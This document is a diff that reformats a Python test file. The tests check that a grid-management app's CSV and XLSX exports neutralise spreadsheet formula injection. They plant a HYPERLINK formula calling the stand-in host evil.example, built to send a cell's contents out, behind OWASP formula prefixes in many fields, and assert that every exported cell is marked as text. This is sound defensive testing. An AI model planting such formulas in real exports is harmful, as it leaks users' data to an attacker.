@@ -21,9 +21,26 @@ from tests.conftest import create_database, drop_database, make_client
 
 # OWASP's formula starts, each in front of a payload; one planted row per prefix.
 PREFIXES = ["=", "+", "-", "@", "\t", "\r", " ="]
-PAYLOAD = "HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"
-CODES = ({c.value for c in Category} | {k.value for k in DisputeKind} | {s.value for s in State}
-         | {"True", "False", "true", "false", "shown", "masked", "road", "straight", "HH", "LL", "HL", "LH"})
+PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"点我")'
+CODES = (
+    {c.value for c in Category}
+    | {k.value for k in DisputeKind}
+    | {s.value for s in State}
+    | {
+        "True",
+        "False",
+        "true",
+        "false",
+        "shown",
+        "masked",
+        "road",
+        "straight",
+        "HH",
+        "LL",
+        "HL",
+        "LH",
+    }
+)
 TIME_START = re.compile(r"\d{4}-\d\d-\d\d[ T]\d\d:\d\d")
 BEIJING_TIME = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\+08:00")
 
@@ -36,10 +53,10 @@ def planted(field: str, i: int) -> str:
 
 
 def excel_csv_value(cell: str):
-    """What a spreadsheet makes of a CSV cell: text after a leading ', a formula, a number, or text."""
+    """What a spreadsheet makes of a CSV cell: text after a leading ', a formula, a number, text."""
     if cell.startswith("'"):
         return ("text", cell[1:])
-    if is_number_like(cell):                       # -1.5 is a number; -1+1 a formula
+    if is_number_like(cell):  # -1.5 is a number; -1+1 a formula
         return ("number", float(cell.strip().replace(",", "").rstrip("%")))
     if cell[:1] in FORMULA_STARTS or cell.lstrip()[:1] in FORMULA_STARTS:
         return ("formula", cell)
@@ -55,10 +72,14 @@ def test_the_writer_marks_formulas_and_numbers_as_text_and_keeps_digits():
         assert (kind, value) == ("text", ident)
     assert csv_text("张三") == "张三" and csv_text("'=x") == "'=x"
     assert table.value("b", "2024-04-30T16:00:00+00:00") == "2024-05-01 00:00:00+08:00"
-    assert table.value("a", "x") == "叉" and table.value("a", True) == "是" and table.value("a", False) == "否"
+    assert (
+        table.value("a", "x") == "叉"
+        and table.value("a", True) == "是"
+        and table.value("a", False) == "否"
+    )
     assert table.value("a", 2**62) == str(2**62) and table.value("a", 10**15 - 1) == 10**15 - 1
     with pytest.raises(ValueError):
-        table.value("b", "2024-05-01T00:00:00")        # no zone: refused, not guessed
+        table.value("b", "2024-05-01T00:00:00")  # no zone: refused, not guessed
 
 
 def test_xlsx_cells_are_text_never_formulas_and_keep_all_digits():
@@ -70,11 +91,15 @@ def test_xlsx_cells_are_text_never_formulas_and_keep_all_digits():
     for (no, name, n), p in zip(got, PREFIXES, strict=True):
         assert (no.value, no.data_type) == ("4113241050070040123", "s")
         # XML reads a carriage return back as a line feed: still text, still marked.
-        assert (name.value, name.data_type, name.quotePrefix) == (p.replace("\r", "\n") + "1+1", "s", True)
+        assert (name.value, name.data_type, name.quotePrefix) == (
+            p.replace("\r", "\n") + "1+1",
+            "s",
+            True,
+        )
         assert (n.value, n.data_type) == (3, "n")
 
 
-# --- the exports, with planted data ------------------------------------------------------------------
+# --- the exports, with planted data ---------------------------------------------------------
 
 
 @pytest.fixture(scope="module")
@@ -92,39 +117,87 @@ def planted_db(test_db_url, accounts):
     engine = create_engine(url, poolclass=NullPool)
     grid = accounts["grid_staff"]["scope_codes"][0]
     with transaction(engine) as s:
-        village = s.execute(text("SELECT parent_code FROM grid WHERE code = :c AND valid_to IS NULL"),
-                            {"c": grid}).scalar_one()
-        homes = s.execute(text("SELECT id, household_no FROM household h WHERE EXISTS (SELECT 1 FROM grid g "
-                               "WHERE g.code = :c AND g.valid_to IS NULL AND ST_Contains(g.geom, h.geom)) "
-                               "ORDER BY id LIMIT :n"), {"c": grid, "n": len(PREFIXES)}).all()
+        village = s.execute(
+            text("SELECT parent_code FROM grid WHERE code = :c AND valid_to IS NULL"), {"c": grid}
+        ).scalar_one()
+        homes = s.execute(
+            text(
+                "SELECT id, household_no FROM household h WHERE EXISTS (SELECT 1 FROM grid g "
+                "WHERE g.code = :c AND g.valid_to IS NULL AND ST_Contains(g.geom, h.geom)) "
+                "ORDER BY id LIMIT :n"
+            ),
+            {"c": grid, "n": len(PREFIXES)},
+        ).all()
         for i, (hid, _) in enumerate(homes):
-            s.execute(text("UPDATE household SET head_name = :a, address = :b, phone = :p WHERE id = :id"),
-                      {"a": planted("head", i), "b": planted("addr", i),
-                       "p": ("+" if i % 2 else "-") + "86-13800000000", "id": hid})
-            s.execute(text("UPDATE natural_village SET name = :c WHERE id = "
-                           "(SELECT natural_village_id FROM household WHERE id = :id)"),
-                      {"c": planted("nv", i), "id": hid})
-        staff = s.execute(text("SELECT id FROM staff WHERE grid_code = :c ORDER BY id"), {"c": grid}).scalars().all()
+            s.execute(
+                text(
+                    "UPDATE household SET head_name = :a, address = :b, phone = :p WHERE id = :id"
+                ),
+                {
+                    "a": planted("head", i),
+                    "b": planted("addr", i),
+                    "p": ("+" if i % 2 else "-") + "86-13800000000",
+                    "id": hid,
+                },
+            )
+            s.execute(
+                text(
+                    "UPDATE natural_village SET name = :c WHERE id = "
+                    "(SELECT natural_village_id FROM household WHERE id = :id)"
+                ),
+                {"c": planted("nv", i), "id": hid},
+            )
+        staff = (
+            s.execute(text("SELECT id FROM staff WHERE grid_code = :c ORDER BY id"), {"c": grid})
+            .scalars()
+            .all()
+        )
         for i, sid in enumerate(staff):
-            s.execute(text("UPDATE staff SET name = :n, phone = :p WHERE id = :id"),
-                      {"n": planted("staff", i % len(PREFIXES)), "p": "+1-2+3", "id": sid})
+            s.execute(
+                text("UPDATE staff SET name = :n, phone = :p WHERE id = :id"),
+                {"n": planted("staff", i % len(PREFIXES)), "p": "+1-2+3", "id": sid},
+            )
         for code, i in ((grid, 0), (village, 1)):
-            s.execute(text("UPDATE grid SET name = :n WHERE code = :c AND valid_to IS NULL"),
-                      {"n": planted("grid", i), "c": code})
-        geom = shapely.from_wkb(bytes(s.execute(
-            text("SELECT ST_AsBinary(geom) FROM grid WHERE code = :c AND valid_to IS NULL"), {"c": grid}).scalar_one()))
+            s.execute(
+                text("UPDATE grid SET name = :n WHERE code = :c AND valid_to IS NULL"),
+                {"n": planted("grid", i), "c": code},
+            )
+        geom = shapely.from_wkb(
+            bytes(
+                s.execute(
+                    text("SELECT ST_AsBinary(geom) FROM grid WHERE code = :c AND valid_to IS NULL"),
+                    {"c": grid},
+                ).scalar_one()
+            )
+        )
         extent = save_extent(s, as_multi(geom.buffer(0.0005)), "drawn", planted("extent", 2))
-        point = s.execute(text("SELECT ST_X(ST_PointOnSurface(geom)), ST_Y(ST_PointOnSurface(geom)) FROM grid "
-                               "WHERE code = :c AND valid_to IS NULL"), {"c": grid}).one()
+        point = s.execute(
+            text(
+                "SELECT ST_X(ST_PointOnSurface(geom)), ST_Y(ST_PointOnSurface(geom)) FROM grid "
+                "WHERE code = :c AND valid_to IS NULL"
+            ),
+            {"c": grid},
+        ).one()
     engine.dispose()
     with make_client(url, "admin") as admin, make_client(url, None) as anonymous:
-        for i, p in enumerate(PREFIXES):
-            r = admin.post("/incidents", json={
-                "category": "dispute", "dispute_kind": "neighbour", "description": planted("desc", i),
-                "occurred_at": "2024-05-01T08:00:00+08:00", "lon": point[0], "lat": point[1],
-                "reporter_name": planted("reporter", i), "reporter_phone": ("+" if i % 2 else "-") + "8613800000"})
+        for i in range(len(PREFIXES)):
+            r = admin.post(
+                "/incidents",
+                json={
+                    "category": "dispute",
+                    "dispute_kind": "neighbour",
+                    "description": planted("desc", i),
+                    "occurred_at": "2024-05-01T08:00:00+08:00",
+                    "lon": point[0],
+                    "lat": point[1],
+                    "reporter_name": planted("reporter", i),
+                    "reporter_phone": ("+" if i % 2 else "-") + "8613800000",
+                },
+            )
             assert r.status_code in (200, 201), r.text
-            anonymous.post("/auth/login", json={"username": planted("login", i), "password": "wrong"})
+            anonymous.post(
+                "/auth/login", json={"username": planted("login", i), "password": "wrong"}
+            )
     yield {"url": url, "grid": grid, "extent": extent.id, "household_nos": {no for _, no in homes}}
     drop_database(url)
 
@@ -147,7 +220,9 @@ def export_routes() -> set[str]:
     for path, ops in create_app().openapi()["paths"].items():
         for p in ops.get("get", {}).get("parameters", []):
             schema = p.get("schema", {})
-            enum = schema.get("enum") or [e for s in schema.get("anyOf", []) for e in s.get("enum", [])]
+            enum = schema.get("enum") or [
+                e for s in schema.get("anyOf", []) for e in s.get("enum", [])
+            ]
             if p["name"] == "format" and "csv" in enum:
                 found.add(path)
     return found
@@ -163,7 +238,9 @@ def csv_cells(payload: bytes) -> tuple[list[str], list[list[str]]]:
     return rows[0], rows[1:]
 
 
-def check_cells(where: str, header: list[str], rows: list[list], planted_texts: set[str]) -> set[str]:
+def check_cells(
+    where: str, header: list[str], rows: list[list], planted_texts: set[str]
+) -> set[str]:
     """The class checks on every cell; returns the planted texts found (after the text mark)."""
     found = set()
     assert rows, f"{where}: no rows"
@@ -171,26 +248,43 @@ def check_cells(where: str, header: list[str], rows: list[list], planted_texts: 
         for name, cell in zip(header, row, strict=True):
             if cell in ("", None):
                 continue
-            if isinstance(cell, (int, float)):       # xlsx numbers: an int must fit 15 digits
-                assert not isinstance(cell, int) or abs(cell) < 10**15, f"{where} {name}: {cell!r} loses digits"
+            if isinstance(cell, (int, float)):  # xlsx numbers: an int must fit 15 digits
+                assert not isinstance(cell, int) or abs(cell) < 10**15, (
+                    f"{where} {name}: {cell!r} loses digits"
+                )
                 continue
             kind, value = excel_csv_value(cell) if where.endswith("csv") else ("text", cell)
             assert kind != "formula", f"{where} {name}: {cell!r} would run as a formula"
             if kind == "number":
-                plain = cell.strip().lstrip("+-").split(".")[0].split("e")[0].split("E")[0].replace(",", "")
-                assert len(plain) <= 15 and not (len(plain) > 1 and plain.startswith("0")), \
+                plain = (
+                    cell.strip()
+                    .lstrip("+-")
+                    .split(".")[0]
+                    .split("e")[0]
+                    .split("E")[0]
+                    .replace(",", "")
+                )
+                assert len(plain) <= 15 and not (len(plain) > 1 and plain.startswith("0")), (
                     f"{where} {name}: {cell!r} would lose digits"
+                )
                 continue
-            assert value not in CODES, f"{where} {name}: the code {value!r} instead of its Chinese label"
+            assert value not in CODES, (
+                f"{where} {name}: the code {value!r} instead of its Chinese label"
+            )
             if TIME_START.match(value):
-                assert BEIJING_TIME.fullmatch(value), f"{where} {name}: {value!r} is not Beijing time with +08:00"
+                assert BEIJING_TIME.fullmatch(value), (
+                    f"{where} {name}: {value!r} is not Beijing time with +08:00"
+                )
             found |= {t for t in planted_texts if t in value}
     return found
 
 
 def all_planted() -> set[str]:
-    return {planted(f, i) for f in ("desc", "reporter", "login", "head", "addr", "nv", "staff", "grid")
-            for i in range(len(PREFIXES))}
+    return {
+        planted(f, i)
+        for f in ("desc", "reporter", "login", "head", "addr", "nv", "staff", "grid")
+        for i in range(len(PREFIXES))
+    }
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@@ -204,13 +298,17 @@ def test_every_export_is_safe_in_every_column(planted_db, path, fmt):
     else:
         wb = openpyxl.load_workbook(io.BytesIO(r.content))
         cells = list(wb.active.iter_rows())
-        assert all(c.data_type != "f" for row in cells for c in row), "a formula cell in the workbook"
+        assert all(c.data_type != "f" for row in cells for c in row), (
+            "a formula cell in the workbook"
+        )
         header = [c.value for c in cells[0]]
         rows = [[c.value for c in row] for row in cells[1:]]
     found = check_cells(f"{path} {fmt}", header, rows, all_planted())
     expected = {
-        "/incidents": {"desc", "reporter"}, "/households": {"head", "addr", "nv", "grid"},
-        "/flood/households": {"head", "addr", "nv", "staff", "grid"}, "/hotspots": {"grid"},
+        "/incidents": {"desc", "reporter"},
+        "/households": {"head", "addr", "nv", "grid"},
+        "/flood/households": {"head", "addr", "nv", "staff", "grid"},
+        "/hotspots": {"grid"},
         "/audit/export": {"login"},
     }[path]
     # The planted text came through, whole, in every field that carries it (only marked as text).
@@ -220,9 +318,12 @@ def test_every_export_is_safe_in_every_column(planted_db, path, fmt):
     if field_cols := {"/households": "户号", "/flood/households": "户号"}.get(path):
         col = header.index(field_cols)
         shown = {(c[1:] if fmt == "csv" else c) for c in (row[col] for row in rows)}
-        assert planted_db["household_nos"] <= shown     # all 19 digits, as text
+        assert planted_db["household_nos"] <= shown  # all 19 digits, as text
     if path == "/incidents":
-        got = {h: [row[header.index(h)] for row in rows] for h in ("类别", "纠纷类型", "环节", "发生时间", "超期")}
+        got = {
+            h: [row[header.index(h)] for row in rows]
+            for h in ("类别", "纠纷类型", "环节", "发生时间", "超期")
+        }
         assert set(got["类别"]) >= {"矛盾纠纷"} and set(got["纠纷类型"]) >= {"邻里纠纷"}
         assert set(got["环节"]) >= {"一访"} and set(got["超期"]) <= {"是", "否"}
         assert "2024-05-01 08:00:00+08:00" in got["发生时间"]
@@ -239,7 +340,9 @@ def test_cli_exports_go_through_the_same_writer(planted_db, tmp_path, monkeypatc
     try:
         runner = CliRunner()
         flood = tmp_path / "flood.csv"
-        r = runner.invoke(app, ["flood", "households", "--extent", str(planted_db["extent"]), "--csv", str(flood)])
+        r = runner.invoke(
+            app, ["flood", "households", "--extent", str(planted_db["extent"]), "--csv", str(flood)]
+        )
         assert r.exit_code == 0, r.output
         hot = tmp_path / "hot.csv"
         r = runner.invoke(app, ["hotspots", "--category", "all", "--out", str(hot)])
